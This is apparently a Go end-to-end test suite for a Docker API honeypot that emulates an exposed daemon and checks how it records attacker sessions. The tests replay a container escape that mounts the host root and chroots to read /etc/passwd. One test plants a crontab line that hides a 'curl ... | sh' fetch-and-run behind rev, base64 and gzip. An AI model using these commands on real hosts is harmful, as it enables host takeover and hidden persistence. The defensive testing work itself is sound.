package e2e

import (
	"errors"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// docker is the docker client; which release does not matter here.
func docker(t testing.TB) string {
	t.Helper()
	p, err := exec.LookPath("docker")
	if err != nil {
		t.Fatalf("the docker client is needed (make deps installs it): %v", err)
	}
	return p
}

func TestNewcomersPath(t *testing.T) {
	d := serve(t)
	cmd := exec.Command(docker(t), "-H", "tcp://"+d.addr, "run", "--rm", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh", "-c", "id -u; head -1 /etc/passwd")
	cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
	out, err := cmd.Output()
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			t.Logf("%s", ee.Stderr)
		}
		t.Fatalf("docker run: %v", err)
	}
	if got := string(out); got != "0\nroot:x:0:0:root:/root:/bin/bash\n" {
		t.Errorf("the container printed %q", got)
	}
	s := d.lastSession(func(s doc) bool { return len(s.Commands) >= 3 })
	if s.Kind != "docker-attacker" || !strings.HasPrefix(s.Client, "docker CLI ") {
		t.Errorf("kind %q, client %q", s.Kind, s.Client)
	}
	ran := ""
	for _, c := range s.Commands {
		ran += strings.Join(c.Argv, " ") + "\n"
	}
	for _, w := range []string{"chroot /mnt sh -c id -u; head -1 /etc/passwd", "id -u", "head -1 /etc/passwd"} {
		if !strings.Contains(ran, w) {
			t.Errorf("%q is not among the commands:\n%s", w, ran)
		}
	}
	if len(s.Unknown) > 0 {
		t.Errorf("not emulated: %v", s.Unknown)
	}
}

func refuseConfig(t testing.TB, text string) string {
	p := filepath.Join(t.TempDir(), "whalefall.yaml")
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// The founding case: scan, version, image from a URL, container denied, other
// means, denied again, gone.
func TestFoundingCase(t *testing.T) {
	d := serve(t, "--config", refuseConfig(t, "refuse:\n  - operation: create\n    words: plugin\n"))
	d.call("GET", "/version", "")
	if code, b := d.call("POST", "/v1.24/images/create?fromSrc="+url.QueryEscape("http://203.0.113.5/img.tar")+"&repo=worker", ""); code != 200 {
		t.Errorf("import: %d %s", code, b)
	}
	for _, body := range []string{`{"Image":"worker","Cmd":["/run.sh"]}`, `{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"]}}`} {
		code, b := d.call("POST", "/v1.24/containers/create", body)
		if code != 403 || !strings.Contains(b, "authorization denied by plugin") {
			t.Errorf("create: %d %s", code, b)
		}
	}
	s := d.lastSession(func(s doc) bool { return len(s.Requests) == 5 && s.Requests[4].Status != 0 })
	if got := steps(s); got != "scan version image refused tactics refused give-up" {
		t.Errorf("the story is %q", got)
	}
	found := false
	for _, i := range s.Indicators {
		found = found || i.Type == "url" && i.Value == "http://203.0.113.5/img.tar" && i.Role == "staging"
	}
	if !found {
		t.Error("the image's URL is no indicator")
	}
}

// The same create five times is told as retrying, not as a change of tactics.
func TestPlainRetrying(t *testing.T) {
	d := serve(t, "--config", refuseConfig(t, "refuse:\n  - operation: create\n"))
	for i := range 5 {
		d.call("POST", fmt.Sprintf("/v1.24/containers/create?name=n%d", i), `{"Image":"alpine","Cmd":["id"]}`)
	}
	s := d.lastSession(func(s doc) bool { return len(s.Requests) == 6 && s.Requests[5].Status != 0 })
	if got := steps(s); strings.Contains(got, "tactics") || strings.Count(got, "retry") != 4 {
		t.Errorf("the story is %q", got)
	}
}

// A line hidden as rev|base64|gzip in a crontab fires at the full minute, and the
// connection it makes is on record; behind "exit 0;" there is none.
func TestHiddenCronLine(t *testing.T) {
	if testing.Short() {
		t.Skip("waits for the full minute")
	}
	d := serve(t)
	hide := func(s string) string {
		out, err := exec.Command("sh", "-c", `printf %s "$1" | gzip -c | base64 -w0 | rev`, "sh", s).Output()
		if err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(out))
	}
	for _, c := range []struct{ url, pre string }{{"http://203.0.113.77/one.sh", ""}, {"http://203.0.113.78/two.sh", "exit 0; "}} {
		line := fmt.Sprintf("* * * * * root %secho %s | rev | base64 -d | gzip -d | sh", c.pre, hide("curl -s "+c.url+" | sh"))
		body := fmt.Sprintf(`{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c",%q],"HostConfig":{"Binds":["/:/mnt"]}}`, "echo '"+line+"' >> /etc/crontab")
		code, b := d.call("POST", "/v1.24/containers/create", body)
		if code == 404 {
			d.call("POST", "/v1.24/images/create?fromImage=alpine&tag=latest", "")
			code, b = d.call("POST", "/v1.24/containers/create", body)
		}
		if code != 201 {
			t.Fatalf("create: %d %s", code, b)
		}
		id := strings.Split(strings.SplitN(b, `"Id":"`, 2)[1], `"`)[0]
		if code, b := d.call("POST", "/v1.24/containers/"+id+"/start", ""); code != 204 {
			t.Fatalf("start: %d %s", code, b)
		}
	}
	has := func(s doc, u string) bool {
		for _, c := range s.Connections {
			if c.URL == u {
				return true
			}
		}
		return false
	}
	var s doc
	for deadline := time.Now().Add(75 * time.Second); time.Now().Before(deadline); time.Sleep(2 * time.Second) {
		if s = d.lastSession(nil); has(s, "http://203.0.113.77/one.sh") {
			break
		}
	}
	if !has(s, "http://203.0.113.77/one.sh") {
		t.Errorf("the line did not fire: %+v", s.Connections)
	}
	if has(s, "http://203.0.113.78/two.sh") {
		t.Error("the line behind exit 0 connected")
	}
	layer := ""
	for _, i := range s.Indicators {
		if i.Value == "http://203.0.113.77/one.sh" {
			layer = i.Layer
		}
	}
	if layer != "plain>rev>base64>gzip" {
		t.Errorf("the URL's layers are %q", layer)
	}
}
